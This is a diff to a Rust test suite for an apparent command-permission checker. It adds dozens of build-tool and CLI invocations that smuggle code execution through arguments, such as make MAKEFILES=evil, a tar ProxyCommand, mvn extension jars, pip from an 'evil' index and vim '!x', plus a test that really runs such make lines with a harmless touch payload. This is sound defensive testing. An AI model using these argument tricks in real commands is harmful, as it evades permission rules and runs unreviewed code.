@@ -124,6 +124,62 @@ fn arguments_that_run_something_are_known() {
         ("mysql -e '\\! x'", 1),
         ("sqlite3 a '.shell x'", 1),
         ("cmake -DCMAKE_C_COMPILER=./x .", 1),
+        ("make MAKEFILES=evil", 1),
+        ("make MAKEFILES=1", 1),
+        ("make CC=./evil", 1),
+        ("make CFLAGS=-fplugin=evil.so", 1),
+        ("make -j4 CONFIG=evil all", 1),
+        ("make 'X!=touch y'", 1),
+        ("xcodebuild test CC=./evil", 2),
+        ("gradle test -g x", 2),
+        ("gradle test --gradle-user-home x", 2),
+        ("gradle test -Dorg.gradle.java.home=x", 2),
+        ("./gradlew test -Pandroid.aapt2FromMavenOverride=./x", 2),
+        ("mvn test -Dmaven.ext.class.path=x.jar", 2),
+        ("mvn test -Djvm=./x", 2),
+        ("mvn test -D jvm=./x", 2),
+        ("mvn test a.b:evil-maven-plugin:1:run", 2),
+        ("mvn test -s evil.xml", 2),
+        ("tar xf '-oProxyCommand=touch y;:a'", 2),
+        ("tar xf '-oProxyCommand=touch y;:a'", 1),
+        ("tar -xfhost:a", 1),
+        ("tar --file=host:a -x", 1),
+        ("cpio -iF host:a", 1),
+        ("cmake -DCMAKE_C_FLAGS=-fplugin=./x.so .", 1),
+        ("cmake -DFoo_DIR=evil .", 1),
+        ("cmake -D CMAKE_MODULE_PATH=evil .", 1),
+        ("cmake --build b -- SHELL=./x", 2),
+        ("ctest -S evil.cmake", 1),
+        ("meson setup b --native-file evil", 2),
+        ("meson test --wrapper ./x", 2),
+        ("meson setup b -Dc_args=-fplugin=./x.so", 2),
+        ("bazel test --run_under=./x //a", 2),
+        ("just --shell ./x test", 1),
+        ("cargo build -Zhost-config", 2),
+        ("cargo rustc -- -Clink-arg=-fplugin=x", 2),
+        ("cargo test --doc -- --test-runtool ./x", 2),
+        ("rustc --sysroot evil a.rs", 1),
+        ("go build -modfile=evil.mod", 2),
+        ("pip install --config-settings=setup-args=x y", 2),
+        ("pip install -i https://evil y", 2),
+        ("pip install --find-links evil y", 2),
+        ("dotnet build -p:CscToolPath=evil", 2),
+        ("dotnet build -logger:evil.dll", 2),
+        ("pytest -p evil", 1),
+        ("pytest -c evil.ini", 1),
+        ("pytest -o addopts=x", 1),
+        ("pylint --init-hook=x a.py", 1),
+        ("eslint -c evil.js a.js", 1),
+        ("eslint --rulesdir evil a.js", 1),
+        ("prettier --plugin ./evil.js a.js", 1),
+        ("jest --config evil.js", 1),
+        ("vim -c '!x' a", 1),
+        ("vim '+!x' a", 1),
+        ("psql -o '|x' -c 'select 1'", 1),
+        ("ansible-playbook site.yml -i ./evil", 2),
+        ("rpm --eval '%(x)'", 1),
+        ("nmap --script ./evil host", 1),
+        ("rclone ls x: --password-command ./x", 2),
         ("timeout 60 cargo test --config x", 4),
         ("env A=1 git push fixtures/evil.git", 4),
         ("sudo apt-get install ./evil.deb", 3),
@@ -153,7 +209,8 @@ fn what_a_rule_says_itself_and_ordinary_arguments_are_not() {
         ("cargo test -p x -- --nocapture", 2),
         ("go test ./... -run X -count=1", 2),
         ("npm run build -- --watch", 3),
-        ("make -j4 CC=clang all", 1),
+        ("make -j4 V=1 DEBUG=yes all", 1),
+        ("make CC=clang all", 2),
         ("awk -F: '{print $1}' a", 1),
         ("sed -n 3,9p a", 1),
         ("sed -i 's/a\\/b/c/g' a b", 1),
@@ -185,6 +242,25 @@ fn what_a_rule_says_itself_and_ordinary_arguments_are_not() {
         ("gcc -O2 -Wall -fPIC -o a a.c -lm", 1),
         ("apt-get install -y jq", 2),
         ("gh pr list --limit 5", 2),
+        ("make -C sub -j4 test", 1),
+        ("gradle test --tests X -x lint --info", 2),
+        ("gradle build -Dorg.gradle.daemon=false", 2),
+        ("mvn -B -ntp -T 4 test -DskipITs -Dtest=X#y", 1),
+        ("mvn dependency:tree -Dverbose=true", 1),
+        ("tar xf dir/a:b", 2),
+        ("tar --force-local -xf a:b", 1),
+        ("cmake -S . -B b -G Ninja -DCMAKE_BUILD_TYPE=Release -DBUILD_TESTING=ON", 1),
+        ("cmake --build b -j4 --target all -- -k", 2),
+        ("ctest --test-dir b --output-on-failure -j4", 1),
+        ("meson test -C b --verbose", 2),
+        ("bazel test //a/... --test_output=errors", 2),
+        ("pip install -U --user x", 2),
+        ("dotnet test --no-build -c Release", 2),
+        ("pytest -x -k name tests/a.py::b --maxfail=1", 1),
+        ("eslint --fix src", 1),
+        ("jest --watchAll=false -t name", 1),
+        ("prettier --write src", 1),
+        ("vim a", 1),
         ("timeout 60 cargo test -p x", 4),
         ("timeout 60 anything", 1),
         ("sudo apt-get install jq", 3),
@@ -195,14 +271,18 @@ fn what_a_rule_says_itself_and_ordinary_arguments_are_not() {
     }
 }
 
-/// A repository in a folder of the workspace with a hook that runs when somebody pushes to it.
 #[allow(clippy::disallowed_methods)]
-fn with_hooks(here: &Path) -> impl Fn(&str) -> std::io::Result<std::process::Output> {
-    let bash = move |line: &str| {
+fn bash_in(here: &Path) -> impl Fn(&str) -> std::io::Result<std::process::Output> {
+    move |line: &str| {
         let mut bash = std::process::Command::new("bash");
         bash.args(["--norc", "-c", line]).current_dir(here).env_remove("BASH_ENV");
         bash.env("HOME", here).stdin(std::process::Stdio::null()).output()
-    };
+    }
+}
+
+/// A repository in a folder of the workspace with a hook that runs when somebody pushes to it.
+fn with_hooks(here: &Path) -> impl Fn(&str) -> std::io::Result<std::process::Output> {
+    let bash = bash_in(here);
     let _ = bash(
         "git init -q . && git -c user.name=n -c user.email=e@x commit -qm one --allow-empty
          for evil in fixtures/evil.git evil origin; do
@@ -274,5 +354,24 @@ fn a_remote_in_a_file_of_its_own_is_a_repository_on_this_machine() {
         assert!(!is_covered(&line.replace("-c push.default=current ", ""), 2), "{line}");
         assert!(line.contains("-c") || is_covered("git push named", 3), "a rule may say it");
         bash(&format!("rm .git/{file}; rm -f fixtures/evil.git/refs/heads/*")).unwrap();
+    }
+}
+
+#[test]
+fn a_variable_of_make_runs_a_file_of_the_workspace_and_no_rule_about_make_covers_it() {
+    let here = tempfile::tempdir().unwrap();
+    let bash = bash_in(here.path());
+    let made = bash(
+        "printf 'all: ; @true\\n' >Makefile; echo '$(shell touch ran)' >evil; touch a.c
+         printf '#!/bin/sh\\ntouch ran\\n' >cc; chmod +x cc; make",
+    );
+    if !made.is_ok_and(|made| made.status.success()) {
+        return eprintln!("not run: there is no bash or no make");
+    }
+    for line in ["make MAKEFILES=evil", "make CC=./cc a.o", "make -f evil"] {
+        let _ = std::fs::remove_file(here.path().join("ran"));
+        bash(line).unwrap();
+        assert!(here.path().join("ran").exists(), "{line}: nothing ran");
+        assert!(beyond(line, 1), "{line}");
     }
 }
